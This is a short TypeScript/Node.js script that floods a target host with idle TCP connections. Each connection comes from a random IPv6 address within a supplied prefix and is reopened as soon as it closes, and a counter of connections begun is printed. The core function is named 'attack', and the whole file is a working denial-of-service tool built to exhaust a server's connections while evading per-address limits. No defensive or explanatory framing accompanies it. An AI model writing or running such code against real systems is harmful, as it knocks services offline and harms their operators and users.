import { randomBytes } from 'node:crypto'
import { connect } from 'node:net'

/**
 * A program: `loops` connections to a host that say nothing, each from another address of a prefix, each made anew when it is closed.
 * Arguments: host, port, the first groups of the prefix (four of a /64, three of a /48), loops. Prints how many connections it began so far.
 */
const [host = '', port = '', prefix = '', loops = ''] = process.argv.slice(2)
let begun = 0

const freeBytes = 16 - 2 * prefix.split(':').length

const anyAddress = (): string =>
  `${prefix}:${randomBytes(freeBytes)
    .toString('hex')
    .replaceAll(/(.{4})(?=.)/g, '$1:')}`

const attack = (): void => {
  begun++
  const socket = connect({ host, port: Number(port), localAddress: anyAddress(), family: 6 })
  socket.on('error', () => {})
  socket.on('close', () => setImmediate(attack))
}

for (let loop = 0; loop < Number(loops); loop++) attack()
setInterval(() => process.stdout.write(`${begun}\n`), 200)
